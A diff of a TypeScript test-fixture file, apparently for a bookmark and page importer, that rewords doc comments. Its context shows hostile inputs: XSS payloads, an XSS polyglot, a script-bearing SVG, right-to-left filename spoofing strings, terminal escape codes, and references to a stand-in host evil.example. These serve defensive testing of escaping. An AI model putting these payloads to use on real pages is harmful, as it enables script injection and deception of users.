@@ -1,4 +1,4 @@
-/** What a text does to whoever takes it for more than text: every one calls `alert`, or asks a third party. */
+/** Texts that call `alert` or send a request to a third party where they are interpreted as HTML or code. */
 const scripts = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
@@ -95,7 +95,7 @@ const styles = [
   "expression(alert(1))",
 ];
 
-/** What moves, hides or breaks what stands beside it. */
+/** Texts that move, hide or break their neighbours. */
 const layout = [
   "\u202Egnp.exe moc.knab\u202C",
   "\u2067\u202Eright to left, never closed",
@@ -113,7 +113,7 @@ const layout = [
   "\u001B[31mred\u001B[0m \u0007 \u0000",
 ];
 
-/** A page's polyglot for all of it at once (in the manner of 0xSobky's, in our own words). */
+/** A polyglot of many contexts (like that of 0xSobky, but our own). */
 const polyglot =
   "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e";
 
@@ -130,17 +130,17 @@ export const hostileTexts: readonly string[] = [
 
 const escaped = (text: string): string => text.replace(/[&<>"']/g, (character) => `&#${character.codePointAt(0)};`);
 
-/** A picture that would run script wherever it is taken as a document. */
+/** A picture that runs a script where it is opened as a document. */
 export const HOSTILE_SVG =
   "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)' width='100' height='100'><script>alert(1)</script>" +
   "<image href='//evil.example/in-svg.png'/><foreignObject><body onload='alert(1)'/></foreignObject></svg>";
 
-/** Pages that it takes to have every text once, as title or as description, and one whose title is a megabyte long. */
+/** The number of pages that have every text once, as title or description, and of one with a title of a megabyte. */
 export const HOSTILE_PAGES = Math.ceil(hostileTexts.length / 2) + 1;
 
 /**
- * A page with two hostile texts in title, description, author, tags and JSON-LD, well written, so that all of it is read;
- * or as they are (`raw`), so that they end the elements they stand in.
+ * A page with two hostile texts in title, description, author, tags and JSON-LD. They are escaped, so that all of them are
+ * read, or not (`raw`), so that they end their elements.
  */
 export function hostilePage(number: number, raw: boolean): string {
   const text = hostileTexts[number * 2] ?? "A".repeat(1024 * 1024);
@@ -156,7 +156,7 @@ export function hostilePage(number: number, raw: boolean): string {
 <script type="application/ld+json">${linked.replaceAll("</", "<\\/")}</script></head><body><h1>${write(text)}</h1></body></html>`;
 }
 
-/** A file of bookmarks with every text as title, description and tag, and addresses that are none of the web's. */
+/** A file of bookmarks with every text as title, description and tag, and with addresses that are not of the web. */
 export function hostileBookmarks(site: string): string {
   const entry = (url: string, text: string): string =>
     `<DT><A HREF="${escaped(url)}" TAGS="${escaped(text.slice(0, 40).replaceAll(",", " "))}" ICON_URI="//evil.example/i.ico">` +
